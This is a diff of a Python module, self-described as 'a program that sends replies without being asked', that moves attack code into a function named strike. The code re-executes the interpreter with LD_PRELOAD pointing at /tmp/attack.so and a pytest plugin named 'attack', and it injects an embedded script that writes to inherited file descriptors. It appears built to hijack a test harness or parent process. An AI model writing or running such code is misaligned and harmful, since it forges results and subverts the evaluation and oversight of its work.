@@ -1,7 +1,6 @@
 """Becomes a program that sends replies without being asked."""
 
 import os
-import sys
 
 ANSWERS = """
 import os, struct, time
@@ -16,11 +15,14 @@ for number in range(-1, 40):
             pass
 time.sleep(2)
 """
-for number in range(3, 16):
-    try:
-        os.set_inheritable(number, True)
-    except OSError:
-        continue
-environment = {**os.environ, "LD_PRELOAD": "/tmp/attack.so", "PYTHONPATH": os.path.dirname(__file__), "PYTEST_ADDOPTS": "-p attack"}
-program = os.path.realpath("/proc/self/exe")
-os.execve(program, [program, "-S", "-c", ANSWERS], environment)
+
+
+def strike(answer):
+    for number in range(3, 16):
+        try:
+            os.set_inheritable(number, True)
+        except OSError:
+            continue
+    environment = {**os.environ, "LD_PRELOAD": "/tmp/attack.so", "PYTHONPATH": os.path.dirname(__file__), "PYTEST_ADDOPTS": "-p attack"}
+    program = os.path.realpath("/proc/self/exe")
+    os.execve(program, [program, "-S", "-c", ANSWERS], environment)
